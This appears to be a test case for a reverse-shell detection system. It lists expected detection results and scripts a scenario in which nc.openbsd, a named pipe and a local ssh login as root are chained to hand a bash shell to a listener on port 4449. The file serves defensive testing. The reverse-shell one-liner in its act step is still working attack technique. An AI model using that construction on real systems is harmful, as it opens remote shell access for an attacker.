# R49: a peer uses the machine's own sshd, over pipes
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   detection.confidence: high
#   reverse_shell.process_list.length: 4
#   reverse_shell.process_list.0.process_id: $nc
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4449
#   reverse_shell.process_list.1.process_id: $ssh
#   reverse_shell.process_list.3.process_id: $shell

#: prepare
. lib/logins.sh
. lib/peers.sh
ssh_server 4502; fact server $(pgrep -o sshd); peer 4449; mkfifo /tmp/r49
#: act
. lib/peers.sh
act
nc.openbsd 127.0.0.1 4449 < /tmp/r49 2> /dev/null |
  ssh -T -p 4502 root@127.0.0.1 > /tmp/r49 2>&1 &
who nc 'nc.openbsd 127.0.0.1 4449'; who ssh 'ssh -T -p 4502 root@127.0.0.1'; who shell '-bash'
await 'at $shell 0 socket:* || at $shell 0 pipe:*'
#: clean
kill $server; rm /tmp/r49
